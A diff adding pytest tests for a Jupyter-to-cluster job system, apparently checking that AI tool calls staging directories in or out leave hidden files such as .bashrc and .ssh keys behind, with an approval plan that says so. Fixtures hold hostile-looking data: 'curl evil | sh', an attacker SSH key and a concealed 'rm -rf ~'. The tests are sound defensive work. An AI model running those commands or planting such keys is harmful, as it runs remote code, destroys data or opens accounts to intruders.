@@ -293,3 +293,122 @@ def test_the_magics_card_text_drops_concealed_text_too():
     text = render_text(job, {"stdout": "ok \x1b[8;30;40mrm -rf ~\n"})
     assert "\x1b[8" not in text and "rm -rf ~" in text
     assert all(not h and not _same(fg, bg) for _, fg, bg, h in _drawn(text))
+
+
+# -- 3. a tool call's job that stages a directory ------------------------------------------------
+
+def _job_tree(top: Path) -> None:
+    """A job's output directory with hidden entries at two depths."""
+    (top / "sub" / ".ssh").mkdir(parents=True)
+    (top / "sub" / ".ssh" / "authorized_keys").write_text("ssh-ed25519 AAAA attacker\n")
+    (top / ".bashrc").write_text("curl evil | sh\n")
+    (top / "result.csv").write_text("a,b\n")
+    (top / "sub" / "data.txt").write_text("d\n")
+
+
+async def _staged_out(fed: Any, job_id: str) -> Any:
+    import asyncio
+
+    async def wait() -> Any:
+        async for ev in fed.events(since=0):
+            if ev.kind in ("stage.out.done", "stage.out.failed") and ev.job_id == job_id:
+                return ev
+    return await asyncio.wait_for(wait(), 60)
+
+
+@pytest.mark.parametrize("approval", ["auto", "ask"])
+async def test_a_tool_calls_job_stages_a_directory_back_without_its_hidden_entries(
+        tmp_path, monkeypatch, approval):
+    """The ninth sweep refused a tool call's job whose `stage_out` copied a directory back
+    here (its `.bashrc` and `sub/.ssh/authorized_keys` came along), so the model could not
+    bring back a job's results at all. It is allowed now with the hidden entries left out
+    at any depth: the plan a person approves says so for that copy, the submit's result
+    says so, and the job's reason after its stage-out names what was left out."""
+    from test_wait_unreachable import Site as FakeSlurm
+
+    from diamond_jupyter.federation import Federation
+    from diamond_jupyter.model import JobState
+    from diamond_jupyter.skills import NeedsApproval, SkillContext, run_skill
+
+    site = FakeSlurm(tmp_path, monkeypatch)
+    results = tmp_path / "results"
+    _job_tree(results)
+    dest = tmp_path / "back"
+    site.ends("77")
+    fed = Federation(site.config, min_poll_s=0.2, poll_interval_s=0.5)
+    await fed.start(recover=False)
+    args = {"site": "alpha", "spec": {"command": "true", "stage_out": [
+        {"source": str(results), "destination": str(dest), "recursive": True}]}}
+    try:
+        approved = None
+        if approval == "ask":
+            with pytest.raises(NeedsApproval) as asked:
+                await run_skill(SkillContext(fed, approval="ask"), "submit", args)
+            approved = asked.value.plan
+            moves = [m for m in approved["data_movements"] if m["direction"] == "out"]
+            assert "every name starting with '.'" in moves[0]["hidden_entries"]
+        out = await run_skill(SkillContext(fed, approval=approval, approved=approved),
+                              "submit", args)
+        assert "stage_out[0]: hidden entries left out" in out.message
+        ev = await _staged_out(fed, out.job.id)
+        assert ev.kind == "stage.out.done", ev.data
+        job = fed.job(out.job.id)
+    finally:
+        await fed.close()
+    got = sorted(str(p.relative_to(dest)) for p in dest.rglob("*"))
+    assert got == ["result.csv", "sub", "sub/data.txt"]
+    assert job.state == JobState.COMPLETED
+    assert job.reason.startswith("stage-out left out 2 hidden entries (a tool call's job "
+                                 "copies none): ")
+    assert ".bashrc" in job.reason and "sub/.ssh/" in job.reason
+
+
+async def test_a_tool_calls_job_stages_in_a_directory_without_its_hidden_entries(
+        tmp_path, monkeypatch):
+    """A tool call's job staging in a directory of this machine (the server's root, under
+    JupyterHub the home: `stage_in: [{source: ".", recursive: true}]`): the path itself
+    is not hidden, so it went, with `.ssh/id_ed25519` inside, to a site where the job's
+    script may send it anywhere. Its hidden entries are left out now."""
+    from test_wait_unreachable import Site as FakeSlurm
+
+    from diamond_jupyter.federation import Federation
+    from diamond_jupyter.skills import SkillContext, run_skill
+
+    site = FakeSlurm(tmp_path, monkeypatch)
+    home = tmp_path / "home"
+    (home / ".ssh").mkdir(parents=True)
+    (home / ".ssh" / "id_ed25519").write_text("PRIVATE KEY\n")
+    (home / "input.dat").write_text("x\n")
+    fed = Federation(site.config, min_poll_s=0.2, poll_interval_s=0.5)
+    fed.server_root = home
+    wd = tmp_path / "work" / "job1"
+    await fed.start(recover=False)
+    try:
+        out = await run_skill(SkillContext(fed, approval="auto"), "submit", {
+            "site": "alpha", "spec": {"command": "true", "working_directory": str(wd),
+                                      "stage_in": [{"source": str(home), "destination": "in",
+                                                    "recursive": True}]}})
+        assert "stage_in[0]: hidden entries left out" in out.message
+        import asyncio
+
+        async def staged_in() -> Any:
+            async for ev in fed.events(since=0):
+                if ev.kind in ("stage.in.done", "stage.in.failed") and \
+                        ev.job_id == out.job.id:
+                    return ev
+        ev = await asyncio.wait_for(staged_in(), 60)
+        assert ev.kind == "stage.in.done", ev.data
+    finally:
+        await fed.close()
+    sent = sorted(str(p.relative_to(wd / "in")) for p in (wd / "in").rglob("*"))
+    assert sent == ["input.dat"]
+
+
+def test_a_staging_entry_left_as_written_copies_hidden_entries():
+    """(the field) A person's own job (the CLI, a cell) stages as written: `skip_hidden` is
+    off unless a tool call sets it."""
+    from diamond_jupyter.model import JobSpec
+
+    spec = JobSpec(command="true", stage_out=[{"source": "out/", "destination": "r/",
+                                               "recursive": True}])
+    assert spec.stage_out[0].skip_hidden is False
